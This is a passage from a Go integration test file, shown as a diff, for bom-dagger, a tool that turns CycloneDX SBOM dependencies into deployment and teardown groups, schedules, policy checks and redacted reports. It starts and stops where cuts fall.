+		doc := `{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
+			"components": [
+				{"bom-ref": "db", "name": "db", "type": "data"},
+				{"bom-ref": "monitor", "name": "monitor", "type": "application"},
+				{"bom-ref": "gateway", "name": "gateway", "type": "application"},
+				{"bom-ref": "api", "name": "api", "type": "application"},
+				{"bom-ref": "app", "name": "app", "type": "application"},
+				{"bom-ref": "cron", "name": "cron", "type": "application"}],
+			"dependencies": [` + dependencies + `]}`
+		if err := os.WriteFile(path, []byte(doc), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	// db, gateway and monitor in group 1, api in 2, app and cron in 3
+	base := `{"ref": "api", "dependsOn": ["db"]}, {"ref": "app", "dependsOn": ["api", "gateway"]}`
+	stdout, stderr, err := runBomDagger(t, "-i", writeSBOM("monday.json", base+`, {"ref": "cron", "dependsOn": ["api"]}`), "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	planPath := filepath.Join(dir, "monday-plan.json")
+	if err := os.WriteFile(planPath, []byte(stdout), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	// gateway now waits for api, taking app with it to group 4
+	inside := writeSBOM("inside.json", base+`, {"ref": "cron", "dependsOn": ["api"]}, {"ref": "gateway", "dependsOn": ["api"]}`)
+	stdout, _, err = runBomDagger(t, "-i", inside, "--compare-groups", planPath, "--through-group", "2")
+	if err == nil {
+		t.Errorf("Expected gateway leaving group 1 to fail the check, got:\n%s", stdout)
+	}
+	for _, want := range []string{
+		"Comparing groups 1-2 against " + planPath,
+		"  ~ gateway: group 1 -> 3\n",
+		"1 component moved\n",
+		"1 change after group 2 not checked\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q, got:\n%s", want, stdout)
+		}
+	}
+
+	// Only cron moves, from group 3 to 4
+	outside := writeSBOM("outside.json", base+`, {"ref": "cron", "dependsOn": ["app"]}`)
+	stdout, stderr, err = runBomDagger(t, "-i", outside, "--compare-groups", planPath, "--through-group", "2")
+	if err != nil {
+		t.Errorf("Expected a move past the cutoff to pass: %v\nStdout: %s\nStderr: %s", err, stdout, stderr)
+	}
+	if !strings.Contains(stdout, "Groups match.\n1 change after group 2 not checked\n") {
+		t.Errorf("Expected the groups to match, got:\n%s", stdout)
+	}
+	stdout, _, err = runBomDagger(t, "-i", outside, "--compare-groups", planPath)
+	if err == nil || !strings.Contains(stdout, "Comparing every group against") || !strings.Contains(stdout, "  ~ cron: group 3 -> 4\n") {
+		t.Errorf("Expected every group to be checked without --through-group, got %v:\n%s", err, stdout)
+	}
+}
+
+func TestIntegrationSuggestEdges(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "suggest-edges-1.6.json")
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--suggest-edges")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"none of them is applied",
+		"  medium      api-gateway -> inventory    endpoint https://api.inventory.internal/ names inventory\n",
+		"  low         kafka-connect -> kafka      kafka-connect extends the name of kafka in group org.apache\n",
+		"4 suggestions. Overlay snippet:\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q, got:\n%s", want, stdout)
+		}
+	}
+
+	// The snippet is a valid overlay that leaves nothing more to suggest
+	_, snippet, found := strings.Cut(stdout, "Overlay snippet:\n")
+	if !found {
+		t.Fatalf("Expected an overlay snippet, got:\n%s", stdout)
+	}
+	overlayPath := filepath.Join(t.TempDir(), "overlay.json")
+	if err := os.WriteFile(overlayPath, []byte(snippet), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--overlay", overlayPath, "--suggest-edges")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.HasSuffix(stdout, "No dependencies to suggest.\n") {
+		t.Errorf("Expected no suggestions once the overlay is applied, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationPolicy(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+	dir := t.TempDir()
+
+	failing := filepath.Join(dir, "failing.yaml")
+	doc := `- rule: max-group-size
+  max: 5
+- rule: require-edge
+  from: api-gateway
+  to: auth-service
+- rule: must-precede
+  a: kafka
+  b: zookeeper
+`
+	if err := os.WriteFile(failing, []byte(doc), 0o644); err != nil {
+		t.Fatalf("Failed to write policy: %v", err)
+	}
+	stdout, _, err := runBomDagger(t, "-i", sbomPath, "--policy", failing)
+	if err == nil {
+		t.Errorf("Expected a violated policy to fail, got:\n%s", stdout)
+	}
+	for _, want := range []string{
+		"=== Policy Check ===",
+		"Checking 3 rules from " + failing,
+		"  rule 1 (max-group-size): group 1 has 6 components, more than 5\n",
+		"  rule 3 (must-precede): kafka deploys in group 2, not before zookeeper in group 1\n",
+		"3 violations",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in the report, got:\n%s", want, stdout)
+		}
+	}
+	if strings.Contains(stdout, "rule 2") {
+		t.Errorf("Expected the required edge to hold, got:\n%s", stdout)
+	}
+
+	passing := filepath.Join(dir, "passing.json")
+	if err := os.WriteFile(passing, []byte(`[{"rule": "forbid-edge", "from": "postgres-primary", "to": "kafka"}]`), 0o644); err != nil {
+		t.Fatalf("Failed to write policy: %v", err)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--policy", passing)
+	if err != nil || !strings.Contains(stdout, "No violations.") {
+		t.Errorf("Expected the policy to hold, got err %v, stdout:\n%s\nstderr: %s", err, stdout, stderr)
+	}
+
+	invalid := filepath.Join(dir, "invalid.yaml")
+	if err := os.WriteFile(invalid, []byte("- rule: allow-all\n"), 0o644); err != nil {
+		t.Fatalf("Failed to write policy: %v", err)
+	}
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--policy", invalid)
+	if err == nil || !strings.Contains(stderr, `loading policy: policy rule 1: unknown rule "allow-all"`) {
+		t.Errorf("Expected an invalid policy to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationColor(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	// Test output is piped, so auto leaves it plain
+	stdout, _, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if strings.Contains(stdout, "\x1b[") {
+		t.Errorf("Expected no color when piped, got:\n%q", stdout)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-g", "--color=always")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	for _, want := range []string{"\x1b[1mGroup 1 (can deploy in parallel):\x1b[0m\n", "  - \x1b[36mAPI Gateway\x1b[0m (1.8.0)\n"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q with --color=always, got:\n%q", want, stdout)
+		}
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-g", "--color=always", "--no-color")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if strings.Contains(stdout, "\x1b[") {
+		t.Errorf("Expected --no-color to win, got:\n%q", stdout)
+	}
+}
+
+func TestIntegrationEnvDefaults(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "groups-1.6.json")
+
+	want, stderr, err := runBomDagger(t, "-i", sbomPath, "--output", "groups", "--sort-within-group", "type", "--strict")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	env := []string{
+		"BOM_DAGGER_INPUT=" + sbomPath,
+		"BOM_DAGGER_OUTPUT=groups",
+		"BOM_DAGGER_SORT_WITHIN_GROUP=type",
+		"BOM_DAGGER_STRICT=true",
+	}
+	got, stderr, err := runBomDaggerEnv(t, env)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if got != want {
+		t.Errorf("Environment variables should behave like flags\nGot:\n%s\nWant:\n%s", got, want)
+	}
+
+	// Explicit flags win over the environment
+	got, stderr, err = runBomDaggerEnv(t, env, "-o", "order", "--sort-within-group", "ref")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want, _, _ = runBomDagger(t, "-i", sbomPath)
+	if got != want {
+		t.Errorf("Expected flags to override the environment\nGot:\n%s\nWant:\n%s", got, want)
+	}
+
+	tests := []struct {
+		env  string
+		want string
+	}{
+		{"BOM_DAGGER_TOP=three", `Error: invalid value "three" for BOM_DAGGER_TOP`},
+		{"BOM_DAGGER_STRICT=maybe", `Error: invalid value "maybe" for BOM_DAGGER_STRICT`},
+	}
+	for _, tt := range tests {
+		_, stderr, err := runBomDaggerEnv(t, []string{tt.env}, "-i", sbomPath)
+		if err == nil || !strings.Contains(stderr, tt.want) {
+			t.Errorf("%s: expected %q, got: %s", tt.env, tt.want, stderr)
+		}
+	}
+}
+
+func TestIntegrationFlagSyntax(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	forms := [][][]string{
+		{
+			{"-o", "dot"},
+			{"-o=dot"},
+			{"--output", "dot"},
+			{"--output=dot"},
+			{"-output", "dot"},
+		},
+		{
+			{"-g"},
+			{"--groups"},
+			{"--groups=true"},
+			{"-g=true"},
+		},
+		{
+			{"--top", "2"},
+			{"--top=2"},
+			{"-top", "2"},
+		},
+	}
+	for _, variants := range forms {
+		var want string
+		for i, variant := range variants {
+			stdout, stderr, err := runBomDagger(t, append([]string{"--input=" + sbomPath}, variant...)...)
+			if err != nil {
+				t.Fatalf("%v: unexpected error: %v\nStderr: %s", variant, err, stderr)
+			}
+			if i == 0 {
+				want = stdout
+			} else if stdout != want {
+				t.Errorf("%v should behave like %v\nGot:\n%s\nWant:\n%s", variant, variants[0], stdout, want)
+			}
+		}
+	}
+}
+
+func TestIntegrationFlagErrors(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--outptu", "dot"}, "Error: unknown option --outptu (did you mean --output?)\nValid options: -f, -g, -h, -i, -o,"},
+		{[]string{"-x"}, "Error: unknown option -x\nValid options:"},
+		{[]string{"--top"}, "Error: option --top needs a value\n"},
+		{[]string{"--top=abc"}, `Error: invalid value "abc" for --top: parse error`},
+		{[]string{"--reverse=maybe"}, `Error: invalid value "maybe" for --reverse: parse error`},
+		{[]string{"serve", "--lisen", ":0"}, "Error: unknown option --lisen (did you mean --listen?)\nValid options: --listen, --max-body, --timeout\n"},
+	}
+	for _, tt := range tests {
+		args := tt.args
+		if args[0] != "serve" {
+			args = append([]string{"-i", sbomPath}, args...)
+		}
+		_, stderr, err := runBomDagger(t, args...)
+		if err == nil {
+			t.Errorf("%v: expected an error", tt.args)
+		}
+		if !strings.HasPrefix(stderr, tt.want) {
+			t.Errorf("%v: expected stderr to start with %q, got: %s", tt.args, tt.want, stderr)
+		}
+	}
+}
+
+func TestIntegrationGenerate(t *testing.T) {
+	generated, stderr, err := runBomDagger(t, "--generate", "nodes=40,density=2,services=0.2,depth=2,seed=5")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+
+	path := filepath.Join(t.TempDir(), "generated.json")
+	if err := os.WriteFile(path, []byte(generated), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", path, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Total Components: 31\nTotal Services: 9\n") {
+		t.Errorf("Expected 40 generated nodes, 9 of them services, got:\n%s", stdout)
+	}
+	if stderr != "" {
+		t.Errorf("Expected the generated SBOM to parse without warnings, got: %s", stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "--generate", "nodes=lots")
+	if err == nil || !strings.Contains(stderr, `invalid --generate: invalid nodes "lots"`) {
+		t.Errorf("Expected an invalid --generate error, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationTimeout(t *testing.T) {
+	generated, stderr, err := runBomDagger(t, "--generate", "nodes=5000,density=3,seed=1")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	path := filepath.Join(t.TempDir(), "large.json")
+	if err := os.WriteFile(path, []byte(generated), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	// The deadline ends the process, so it needs the binary
+	_, stderr, err = runBomDaggerEnv(t, nil, "-i", path, "--run-timeout", "1ms")
+	var exitErr *exec.ExitError
+	if !errors.As(err, &exitErr) || exitErr.ExitCode() != 124 {
+		t.Fatalf("Expected exit status 124, got %v\nStderr: %s", err, stderr)
+	}
+	if !regexp.MustCompile(`timed out during (parsing|building the graph) \(exceeded --run-timeout 1ms\)`).MatchString(stderr) {
+		t.Errorf("Expected the phase that ran out of time, got: %s", stderr)
+	}
+
+	if _, stderr, err := runBomDaggerEnv(t, nil, "-i", path, "--run-timeout", "1m", "-o", "json"); err != nil {
+		t.Errorf("Expected a generous timeout to pass: %v\nStderr: %s", err, stderr)
+	}
+}
+
+// The help text must document exactly the registered options, apart from
+// hidden ones, which are also left out of the option list
+func TestIntegrationHelpMatchesFlags(t *testing.T) {
+	help, _, err := runBomDagger(t, "--help")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	optionLine := regexp.MustCompile(`(?m)^(?:  (-[a-z]), |      )(--[a-z0-9-]+)`)
+	var documented []string
+	for _, m := range optionLine.FindAllStringSubmatch(help, -1) {
+		if m[1] != "" {
+			documented = append(documented, m[1])
+		}
+		documented = append(documented, m[2])
+	}
+
+	_, stderr, _ := runBomDagger(t, "--no-such-option")
+	_, list, ok := strings.Cut(stderr, "Valid options: ")
+	if !ok {
+		t.Fatalf("Expected a list of valid options, got: %s", stderr)
+	}
+	list, _, _ = strings.Cut(list, "\n")
+	registered := strings.Split(list, ", ")
+
+	sort.Strings(documented)
+	sort.Strings(registered)
+	if strings.Join(documented, " ") != strings.Join(registered, " ") {
+		t.Errorf("Help and registered options differ\nDocumented: %v\nRegistered: %v", documented, registered)
+	}
+}
+
+func TestIntegrationSortWithinGroup(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "groups-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g", "--sort-within-group", "type")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want := "Group 1 (can deploy in parallel):\n  - Database (15.0)\n  - Cache (7.2)\n  - Acme SDK (0.9.1)\n"
+	if !strings.Contains(stdout, want) {
+		t.Errorf("Expected data before applications before libraries, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--sort-within-group", "type", "--type-order", "library,application")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct {
+				Ref string `json:"ref"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Invalid JSON plan: %v", err)
+	}
+	var refs []string
+	for _, c := range p.Steps[0].Components {
+		refs = append(refs, c.Ref)
+	}
+	if got := strings.Join(refs, ","); got != "acme-sdk,cache,db" {
+		t.Errorf("Expected JSON step 1 in type order acme-sdk,cache,db, got %s", got)
+	}
+
+	if _, _, err := runBomDagger(t, "-i", sbomPath, "--sort-within-group", "size"); err == nil {
+		t.Error("Expected error for unknown --sort-within-group")
+	}
+}
+
+func TestIntegrationSynthesizeMissing(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "missing-ref-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--synthesize-missing")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"Synthetic Components: 1 (external placeholders)",
+		"  - managed-postgres (ref: managed-postgres) (external)\n\nStep 2:",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in output, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--synthesize-missing")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `"synthetic": true`) {
+		t.Errorf("Expected the placeholder to be flagged in JSON, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Contains(stdout, "managed-postgres") || !strings.Contains(stderr, "skipped unknown ref managed-postgres") {
+		t.Errorf("Expected the unknown ref to be skipped with a warning\nStdout:\n%s\nStderr:\n%s", stdout, stderr)
+	}
+}
+
+func TestIntegrationSchedule(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "schedule", "--default-duration", "2m")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Deployment Schedule", "Database             0s        2m0s", "Application        4m0s        6m0s", "Total duration: 6m0s"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected output to contain %q\nGot:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "schedule-json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, `"ref": "app"`) || !strings.Contains(stdout, `"start": "2m0s"`) {
+		t.Errorf("Unexpected schedule JSON:\n%s", stdout)
+	}
+}
+
+func TestIntegrationWindows(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-durations-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--window", "10m")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"--- Window 1: step 1, 5m0s ---\nStep 1:", "--- Window 2: step 2, 10m0s ---\nStep 2:", "--- Window 3: step 3, 1m0s ---"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected output to contain %q\nGot:\n%s", want, stdout)
+		}
+	}
+	if stderr != "" {
+		t.Errorf("Expected no warnings when every step fits, got: %s", stderr)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--window", "8m", "-o", "json", "--validate-self")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct {
+				Duration string `json:"duration"`
+			} `json:"components"`
+		} `json:"steps"`
+		Windows []struct {
+			Steps     []int `json:"steps"`
+			Oversized bool  `json:"oversized"`
+		} `json:"windows"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Invalid JSON plan: %v", err)
+	}
+	if len(p.Windows) != 3 || !p.Windows[1].Oversized || p.Steps[0].Components[0].Duration != "5m0s" {
+		t.Errorf("Expected 3 windows with step 2 oversized, got %+v", p.Windows)
+	}
+	if !strings.Contains(stderr, "[W021_OVERSIZED_STEP] step 2 takes 10m0s, longer than the 8m0s window") {
+		t.Errorf("Expected the oversized step to be flagged, got: %s", stderr)
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--window", "1h", "-o", "dot"); err == nil || !strings.Contains(stderr, "--window only applies") {
+		t.Errorf("Expected --window to be rejected for dot output, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationPin(t *testing.T) {
+	sbomPath := filepath.Join(t.TempDir(), "pins.json")
+	doc := `{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
+		"components": [
+			{"bom-ref": "db", "name": "db", "type": "data"},
+			{"bom-ref": "api", "name": "api", "type": "application"},
+			{"bom-ref": "app", "name": "app", "type": "application"},
+			{"bom-ref": "monitor", "name": "monitor", "type": "application",
+				"properties": [{"name": "bom-dagger:phase", "value": "late"}]}],
+		"dependencies": [{"ref": "api", "dependsOn": ["db"]}, {"ref": "app", "dependsOn": ["api"]}]}`
+	if err := os.WriteFile(sbomPath, []byte(doc), 0o644); err != nil {
+		t.Fatalf("Failed to write SBOM: %v", err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Group 3 (can deploy in parallel):\n  - app\n  - monitor\n") {
+		t.Errorf("Expected the late monitor in the last group, got:\n%s", stdout)
+	}
+
+	// --pin overrides the property
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-g", "--pin", "monitor=normal,db=late")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Group 1 (can deploy in parallel):\n  - db\n  - monitor\n") {
+		t.Errorf("Expected the unpinned monitor in the first group, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--pin", "db=late,api=early")
+	if err == nil || !strings.Contains(stderr, "conflicting pins: db is pinned late but api, pinned early, depends on it") {
+		t.Errorf("Expected a conflict naming db and api, got %v: %s", err, stderr)
+	}
+	for _, pin := range []string{"db=last", "cache=late"} {
+		if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--pin", pin); err == nil {
+			t.Errorf("--pin %s: expected an error, got: %s", pin, stderr)
+		}
+	}
+}
+
+func TestIntegrationTeardownGroups(t *testing.T) {
+	// The diamond with a worker on db: the worker deploys with the APIs, but
+	// nothing depends on it, so it is torn down first with app
+	sbomPath := filepath.Join(t.TempDir(), "teardown.json")
+	doc := `{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
+		"components": [
+			{"bom-ref": "db", "name": "db", "type": "data"},
+			{"bom-ref": "api-a", "name": "api-a", "type": "application"},
+			{"bom-ref": "api-b", "name": "api-b", "type": "application"},
+			{"bom-ref": "worker", "name": "worker", "type": "application"},
+			{"bom-ref": "app", "name": "app", "type": "application"}],
+		"dependencies": [
+			{"ref": "api-a", "dependsOn": ["db"]}, {"ref": "api-b", "dependsOn": ["db"]},
+			{"ref": "worker", "dependsOn": ["db"]}, {"ref": "app", "dependsOn": ["api-a", "api-b"]}]}`
+	if err := os.WriteFile(sbomPath, []byte(doc), 0o644); err != nil {
+		t.Fatalf("Failed to write SBOM: %v", err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-r")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"Step 1:\n  - app (ref: app)\n  - worker (ref: worker)\n",
+		"Step 2:\n  - api-a (ref: api-a)\n  - api-b (ref: api-b)\n",
+		"Step 3:\n  - db (ref: db)\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in the teardown order, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-r", "--numbering", "sequence")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "2. worker (ref: worker, group 1)") {
+		t.Errorf("Expected worker in teardown group 1, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-r", "-o", "shell")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	group1 := stdout[strings.Index(stdout, "# Group 1"):strings.Index(stdout, "# Group 2")]
+	if !strings.Contains(group1, "(ref: app)") || !strings.Contains(group1, "(ref: worker)") {
+		t.Errorf("Expected app and worker in the first teardown group, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationReverseFormats(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g", "-r")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != readGolden(t, "groups-teardown-diamond.txt") {
+		t.Errorf("Teardown groups do not match golden file\nGot:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--reverse")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct{ Ref string }
+		}
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Expected a JSON plan: %v", err)
+	}
+	if len(p.Steps) != 3 || p.Steps[0].Components[0].Ref != "app" || p.Steps[2].Components[0].Ref != "db" {
+		t.Errorf("Expected the teardown plan, app first and the database last, got %+v", p.Steps)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "markdown", "--reverse")
+	if err != nil || !strings.HasPrefix(stdout, "# Teardown Plan\n") {
+		t.Errorf("Expected a teardown plan in Markdown, got %v:\n%s", err, stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "dot", "--reverse")
+	if err == nil || !strings.Contains(stderr, "--reverse does not apply to dot output") {
+		t.Errorf("Expected --reverse to be rejected for dot, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationRedact(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+	mapPath := filepath.Join(t.TempDir(), "mapping.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g", "--redact", "--redact-salt", "test", "--redact-map", mapPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Contains(stdout, "PostgreSQL") || strings.Contains(stdout, "15.2") {
+		t.Errorf("Redacted output leaks component details:\n%s", stdout)
+	}
+	if !strings.Contains(stdout, "component-001") {
+		t.Errorf("Expected pseudonyms in output:\n%s", stdout)
+	}
+
+	plain, _, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Count(stdout, "Group ") != strings.Count(plain, "Group ") || strings.Count(stdout, "  - ") != strings.Count(plain, "  - ") {
+		t.Errorf("Expected redaction to preserve groups\nRedacted:\n%s\nPlain:\n%s", stdout, plain)
+	}
+
+	mapping := string(mustReadFile(t, mapPath))
+	if !strings.Contains(mapping, `"ref": "postgres-primary"`) {
+		t.Errorf("Expected mapping to include original refs, got: %s", mapping)
+	}
+
+	again, _, err := runBomDagger(t, "-i", sbomPath, "-o", "json", "--redact", "--redact-salt", "test", "--timestamp", "2024-01-15T10:00:00Z")
+	if err != nil {
+		t.Fatal(err)
+	}
+	repeat, _, err := runBomDagger(t, "-i", sbomPath, "-o", "json", "--redact", "--redact-salt", "test", "--timestamp", "2024-01-15T10:00:00Z")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again != repeat {
+		t.Error("Expected repeated redacted runs with the same salt to match")
+	}
+}
+
+func TestIntegrationCompleteness(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "compositions-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"WARNING: dependencies declared incomplete for 2 components",
+		"WARNING: dependency completeness unknown for 1 component\n",
+		"=== Deployment Order ===",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected output to contain %q\nGot:\n%s", want, stdout)
+		}
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout, "Dependency Completeness: 2 complete, 2 incomplete, 1 unknown") {
+		t.Errorf("Expected completeness in stats, got:\n%s", stdout)
+	}
+	if strings.Count(stdout, "declared incomplete") != 1 {
+		t.Errorf("Expected the banner once, got:\n%s", stdout)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout, `"completeness": "incomplete_third_party_only"`) {
+		t.Errorf("Expected per-node completeness in JSON, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--require-complete")
+	if err == nil {
+		t.Error("Expected --require-complete to fail")
+	}
+	if !strings.Contains(stderr, "not declared complete for: api, sdk, worker") {
+		t.Errorf("Expected incomplete refs in error, got: %s", stderr)
+	}
+
+	// Compositions only declaring complete pass
+	microservices := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+	if _, stderr, err := runBomDagger(t, "-i", microservices, "--require-complete"); err != nil {
+		t.Errorf("Expected complete SBOM to pass: %v\nStderr: %s", err, stderr)
+	}
+}
+
+func TestIntegrationFormat(t *testing.T) {
+	dir := t.TempDir()
+	spdxPath := filepath.Join(dir, "sbom")
+	if err := os.WriteFile(spdxPath, []byte(`{"spdxVersion": "SPDX-2.3", "SPDXID": "SPDXRef-DOCUMENT"}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	_, stderr, err := runBomDagger(t, "-i", spdxPath)
+	if err == nil {
